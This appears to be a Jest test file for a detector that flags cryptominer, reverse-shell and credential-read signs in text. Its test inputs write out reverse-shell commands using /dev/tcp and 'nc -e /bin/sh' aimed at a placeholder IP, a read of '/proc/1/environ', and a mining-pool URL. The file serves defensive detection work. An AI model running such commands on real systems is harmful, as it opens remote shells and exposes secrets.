import { SIGNS, signsIn } from '../../../../shared/investigation/signs';

const idsIn = (text: string): readonly string[] => signsIn(text).map(({ id }) => id);

describe('signs', () => {
  it.each([
    ['connect stratum+tcp://pool.example:3333', 'miner-protocol'],
    ['STRATUM+SSL://pool.example', 'miner-protocol'],
    ['spawn("./xmrig")', 'miner-name'],
    ['algo=RandomX', 'miner-name'],
    ['exec 5<>/dev/tcp/203.0.113.9/4444', 'reverse-shell'],
    ['bash -i >& x', 'reverse-shell'],
    ['nc -e /bin/sh 203.0.113.9 4444', 'reverse-shell'],
    ['ncat -v -e /bin/sh', 'reverse-shell'],
    ['readFileSync("/proc/self/environ")', 'credential-read'],
    ['cat /proc/1/environ', 'credential-read'],
  ])('are found in %j', (text, id) => {
    expect(idsIn(text)).toContain(id);
  });

  it.each([
    '',
    'an ordinary line of an ordinary day',
    'strategy+tcp',
    'admin',
    'ncurses -end',
    'sync -e',
    '/proc/self/status',
    'maximum randomxyz',
  ])('are not found in %j', (text) => {
    expect(idsIn(text)).toEqual([]);
  });

  it.each(SIGNS)('name a title and a technique for $id', ({ title, technique }) => {
    expect(title).not.toBe('');
    expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/);
  });

  it.each(SIGNS)('keep no state between two looks: $id', ({ pattern }) => {
    expect(pattern.global || pattern.sticky).toBe(false);
  });

  it.each(['nc -', 'ncat -a ', 'bash ', 'stratum+', '/proc/', '/dev/', 'n', ' '])(
    'are looked for in a million characters of %j in no time',
    (part) => {
      const started = performance.now();
      signsIn(part.repeat(1_000_000 / part.length));

      expect(performance.now() - started).toBeLessThan(2000);
    },
  );
});
